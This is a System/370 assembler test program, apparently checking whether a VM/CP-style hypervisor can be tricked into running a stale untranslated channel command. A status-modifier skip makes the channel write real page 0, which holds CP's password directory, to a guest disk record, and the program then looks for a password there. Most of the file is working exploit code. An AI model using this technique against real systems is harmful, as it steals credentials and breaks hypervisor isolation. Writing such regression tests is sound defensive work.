***********************************************************************
*  SKIP: a status-modifier skip past the end of what CP copied.       *
*                                                                     *
*  The attack.  A SEARCH that succeeds ends with status modifier, and *
*  the channel then skips the next CCW: it goes on at the search's    *
*  address + 16.  A CP that copies the guest's channel program CCW by *
*  CCW and stops at the first one without a chaining flag has not     *
*  copied that CCW: the channel runs whatever is left in CP's buffer  *
*  from before.  The guest can choose what that is: a program CP      *
*  refuses half-way (PRIME: four NO-OPs and a WRITE DATA of 9000      *
*  bytes from address 0, too long for CP's IDAW lists) leaves its     *
*  fifth CCW copied raw - a REAL address.  Then                       *
*     SEEK / READ R0 / SEARCH ID EQUAL R1 / NO-OP                     *
*  finds R1, skips the NO-OP, and the channel runs the stale WRITE    *
*  DATA: R1 gets real page 0, CP's directory with every password.     *
*                                                                     *
*  A correct CP copies (translates) the CCW a successful search can   *
*  skip to as well, or ends its copy with something harmless; it      *
*  never leaves a guest's raw CCW in its buffer.                      *
*                                                                     *
*  Steps: format R1 on cylinder 0 head 0 (4096 bytes of zeros), PRIME,*
*  the attack, read R1 back and look for BOB's password.              *
*  X'600D': not there.  X'BAD1': it is.  X'0E0n': set-up failed.      *
***********************************************************************
         COPY  GUEST
SKIP     START X'8000'
         BALR  R12,0
         USING *,R12
         L     R4,=A(BUF1)         the count field to write
         MVC   0(8,R4),COUNT
         LA    R1,FORMAT
         BAL   R14,DOIO
         BAL   R14,OKCSW
         BNZ   FAIL1
         LA    R1,PRIME            CP copies it and refuses it
         BAL   R14,DOIO
         LA    R1,ATTACK
         BAL   R14,DOIO
         LA    R1,READBACK
         BAL   R14,DOIO
         BAL   R14,OKCSW
         BNZ   FAIL3
         LA    R3,MARKER
         L     R4,=A(BUF3)
         L     R5,=F'4096'
         BAL   R14,FIND
         BE    LEAKED
         LPSW  GOOD
LEAKED   LPSW  BAD1
FAIL1    LPSW  FAIL1PSW
FAIL3    LPSW  FAIL3PSW
FAIL1PSW DC    X'00020000',X'00000E01'
FAIL3PSW DC    X'00020000',X'00000E03'
FORMAT   CCW   X'07',SEEK,X'40',6          SEEK cylinder 0, head 0
         CCW   X'31',ID0,X'40',5           SEARCH ID EQUAL R0
         CCW   X'08',*-8,0,1
         CCW   X'1D',BUF1,0,8+4096         WRITE CKD: R1, 4096 bytes
PRIME    CCW   X'03',0,X'60',1             NO-OP
         CCW   X'03',0,X'60',1             NO-OP
         CCW   X'03',0,X'60',1             NO-OP
         CCW   X'03',0,X'60',1             NO-OP
         CCW   X'05',0,X'20',9000          WRITE DATA from 0
ATTACK   CCW   X'07',SEEK,X'40',6
         CCW   X'16',BUF2,X'60',16         READ R0: R1 comes next
         CCW   X'31',ID1,X'40',5           SEARCH ID EQUAL R1: skips
         CCW   X'03',0,X'20',1             ... this NO-OP
READBACK CCW   X'07',SEEK,X'40',6
         CCW   X'31',ID1,X'40',5
         CCW   X'08',*-8,0,1
         CCW   X'06',BUF3,X'20',4096       READ DATA
SEEK     DC    XL6'00'
ID0      DC    XL5'00'
ID1      DC    X'0000000001'
COUNT    DC    X'0000000001',X'00',AL2(4096)
MARKER   DC    C'SWORDFSH'
         COPY  DOIO
         END
